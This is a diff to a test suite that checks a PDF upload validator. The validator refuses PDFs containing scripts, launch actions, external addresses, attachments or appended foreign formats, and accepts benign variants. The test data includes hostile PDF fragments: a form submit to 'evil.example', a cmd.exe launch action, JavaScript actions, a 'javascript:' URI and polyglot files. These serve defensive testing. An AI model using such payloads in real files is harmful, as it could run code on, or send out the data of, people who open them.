@@ -64,7 +64,15 @@ describe('M12 the content of a video is checked', () => {
   });
 });
 
-const { pdfOf, pdfWithNote, pdfWithStream } = strange;
+const { pdfOf, pdfWithNote, pdfWithReference, pdfWithHiddenObjects, pdfWithStream } = strange;
+const form = await strange.honestPdf();
+const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
+/** Its first revision opens an address, the second one does not. */
+const pdfOfTwoOpenings = (): Buffer => {
+  const first = pdfWithNote('', '/OpenAction<</S/URI/URI(https://example.in)>>');
+  const second = '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n';
+  return Buffer.concat([first, latin(second)]);
+};
 
 describe('M12 a PDF has no actions, no external links and no second format', () => {
   test.each<[string, Buffer | (() => Promise<Buffer>)]>([
@@ -138,6 +146,17 @@ describe('M12 a PDF has no actions, no external links and no second format', () 
     ['a script behind a form for data', pdfWithNote('/A<</S/SubmitForm/F(http://evil.example)>>')],
     ['a program to begin', pdfWithNote('/A<</S/Launch/F(cmd.exe)>>')],
     ['a form of XML', pdfWithNote('', '/AcroForm<</XFA(x)>>')],
+    ['an address at a distance', pdfWithReference('/A<</S/URI/URI 5 0 R>>', '(javascript:alert\\(1\\))')],
+    ['objects packed without their type', pdfWithHiddenObjects()],
+    ['a page of programs', Buffer.concat([pdfWithNote(''), Buffer.from('<hta:application>')])],
+    ['an archive between two revisions', Buffer.concat([pdfWithNote(''), archive(), pdfWithNote('')])],
+    ['an archive of another kind behind it', Buffer.concat([pdfWithNote(''), latin('Rar!\x1a\x07\0')])],
+    ['a program behind it', Buffer.concat([pdfWithNote(''), program])],
+    ['70 kB of anything behind it', Buffer.concat([pdfWithNote(''), Buffer.alloc(70_000, 'x')])],
+    ['a picture before it', Buffer.concat([latin('\xff\xd8\xff\xe0'), pdfWithNote('')])],
+    ['a page before it', Buffer.concat([html, pdfWithNote('')])],
+    ['an archive before it', Buffer.concat([archive(), pdfWithNote('')])],
+    ['more than a kilobyte of blanks before it', Buffer.concat([Buffer.alloc(1100, '\n'), pdfWithNote('')])],
   ])('%s is rejected', async (_what, made) => {
     const bytes = typeof made === 'function' ? await made() : made;
     expect(await isRefused(DocumentType.IncomeProof, bytes)).toBe(true);
@@ -152,6 +171,87 @@ describe('M12 a PDF has no actions, no external links and no second format', () 
   ])('%s is kept', async (_what, made) => {
     const answer = await put(DocumentType.IncomeProof, await made());
     expect(answer.statusCode, answer.body).toBe(200);
+  });
+});
+
+describe('F6 a refused PDF names its fault and the remedy', () => {
+  const script = 'This PDF contains a script.';
+  const attachment = 'This PDF contains an attachment, a sound or a film.';
+  const action =
+    'This PDF contains an action that leaves its pages, for a program, an address or another file.';
+  const open = (catalogue: string) => pdfWithNote('', catalogue);
+  test.each<[string, Buffer, string]>([
+    ['a script', open('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), script],
+    ['a script at a distance', pdfWithReference('', '<</S/JavaScript/JS(1)>>', '/OpenAction 5 0 R'), script],
+    [
+      'a script after a harmless action',
+      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>'),
+      script,
+    ],
+    ['a script of an event', open('/AA<</WC<</S/JavaScript/JS(1)>>>>'), script],
+    ['an attachment', open('/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)>>]>>>>'), attachment],
+    ['a film', pdfWithNote('/A<</S/Rendition/OP 0>>'), attachment],
+    ['a program on opening', open('/OpenAction<</S/Launch/F(cmd.exe)>>'), action],
+    ['an address on opening', open('/OpenAction<</S/URI/URI(https://example.in)>>'), action],
+    [
+      'an address after a harmless action',
+      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://example.in)>>]>>'),
+      action,
+    ],
+    ['an address on an event', open('/AA<</WP<</S/URI/URI(https://example.in)>>>>'), action],
+    ['another file on opening', open('/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>'), action],
+    ['a form that is sent on opening', open('/OpenAction<</S/SubmitForm/F(https://example.in)>>'), action],
+    ['a menu command on opening', open('/OpenAction<</S/Named/N/SaveAs>>'), action],
+    ['an address in the older revision', pdfOfTwoOpenings(), action],
+    [
+      'an archive',
+      Buffer.concat([pdfWithNote(''), archive()]),
+      'This PDF contains a file of another format.',
+    ],
+  ])('%s', async (_what, bytes, sentence) => {
+    const answer = await put(DocumentType.IncomeProof, bytes);
+    expect([answer.statusCode, answer.json<{ Message: string }>().Message]).toEqual([
+      415,
+      `${sentence} Print it to a new PDF and upload the new one.`,
+    ]);
+  });
+});
+
+describe('F6 a PDF that only shows its pages is stored unchanged', () => {
+  const plain = pdfWithNote('');
+  const open = (catalogue: string) => pdfWithNote('', catalogue);
+  test.each<[string, Buffer]>([
+    ['opens at a page by an action', open('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
+    [
+      'opens at a page by an action at a distance',
+      pdfWithReference('', '<</S/GoTo/D[3 0 R/Fit]>>', '/OpenAction 5 0 R'),
+    ],
+    ['opens at a named place', open('/OpenAction(Chapter 1)')],
+    ['opens with the print dialog', open('/OpenAction<</S/Named/N/Print>>')],
+    [
+      'opens at a page and then with the print dialog',
+      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/Print>>>>'),
+    ],
+    ['moves on an event', open('/AA<</WP<</S/GoTo/D[3 0 R/Fit]>>>>')],
+    ['names another element of a tagged text', open('/StructTreeRoot<</K<</S/P/Ref[3 0 R]>>>>')],
+    ['has a byte order mark', Buffer.concat([latin('\xef\xbb\xbf'), plain])],
+    ['has blank lines before it', Buffer.concat([latin('\r\n \n'), plain])],
+    ['has no end mark', latin(plain.toString('latin1').replace('%%EOF\n', ''))],
+    ['has 3,000 blank lines behind it', Buffer.concat([plain, Buffer.alloc(3000, '\n')])],
+    ['has zeroes behind it', Buffer.concat([plain, Buffer.alloc(100_000)])],
+    ['has a remark of a portal behind it', Buffer.concat([plain, latin('<!-- served by portal -->')])],
+    [
+      'has the boundary of an upload behind it',
+      Buffer.concat([form, latin('\r\n------WebKitFormBoundaryAbc--\r\n')]),
+    ],
+    [
+      'has an object that viewers skip',
+      latin(plain.toString('latin1').replace('trailer', '9 0 obj\n<</A (b>>\nendobj\ntrailer')),
+    ],
+  ])('%s', async (_what, bytes) => {
+    const answer = await put(DocumentType.IncomeProof, bytes);
+    expect([answer.statusCode, answer.body]).toEqual([200, expect.anything()]);
+    expect((await stored(id)).documents.at(-1)?.size_bytes).toBe(bytes.length);
   });
 });
 
